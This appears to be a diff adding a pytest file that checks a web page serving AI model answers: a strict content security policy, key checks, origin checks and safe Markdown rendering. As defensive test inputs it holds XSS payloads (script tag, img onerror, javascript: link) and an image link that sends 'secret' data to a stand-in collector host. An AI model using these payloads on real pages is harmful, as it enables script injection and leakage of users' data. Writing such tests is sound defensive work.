@@ -1,0 +1,60 @@
+"""The page for people: what is served, to whom, and what a model's Markdown may do in it."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import httpx
+import pytest
+
+from nomoat.engine.fake import FakeEngine
+from nomoat.responder import Responder
+from nomoat.serve.web import FILES, as_html
+
+Start = Callable[..., str]
+
+
+def page_of(start: Start, *, api_key: str | None = None) -> str:
+    """The address of the page, without its last slash."""
+    return start(Responder("fake", FakeEngine()), api_key=api_key).removesuffix("/v1")
+
+
+def test_the_page_loads_nothing_from_anywhere_else(start: Start) -> None:
+    address = page_of(start)
+    for path in FILES:
+        answer = httpx.get(address + path)
+        assert answer.status_code == 200
+        assert "default-src 'none'" in answer.headers["content-security-policy"]
+        assert "://" not in answer.text
+    assert '<script type="module" src="web/page.js">' in httpx.get(address).text
+
+
+def test_the_page_is_there_without_the_key_and_renders_nothing_without_it(start: Start) -> None:
+    address = page_of(start, api_key="k")
+    assert httpx.get(address).status_code == 200
+    assert httpx.post(f"{address}/web/markdown", content="*a*").status_code == 401
+    assert httpx.post(f"{address}/web/markdown", content="*a*", headers={"authorization": "Bearer k"}).json() == "<p><em>a</em></p>\n"
+
+
+def test_a_page_of_somebody_else_cannot_use_the_renderer(start: Start) -> None:
+    answer = httpx.post(f"{page_of(start)}/web/markdown", content="*a*", headers={"origin": "https://example.com"})
+    assert answer.status_code == 403
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("**해자**란\n`a<b`", "<p><strong>해자</strong>란<br />\n<code>a&lt;b</code></p>\n"),
+        ("```py\nx < 1\n```", '<pre><code class="language-py">x &lt; 1\n</code></pre>\n'),
+        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"),
+        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>\n"),
+        ("[a](javascript:alert(1))", "<p>[a](javascript:alert(1))</p>\n"),
+        ("[a](https://b.c)", '<p><a href="https://b.c" target="_blank" rel="noopener noreferrer">a</a></p>\n'),
+    ],
+)
+def test_markdown_becomes_html_that_runs_nothing(written: str, shown: str) -> None:
+    assert as_html(written) == shown
+
+
+def test_a_picture_in_an_answer_is_not_fetched() -> None:
+    assert "<img" not in as_html("![chart](https://collector.example/?said=secret) ![x][y]\n\n[y]: https://collector.example/")
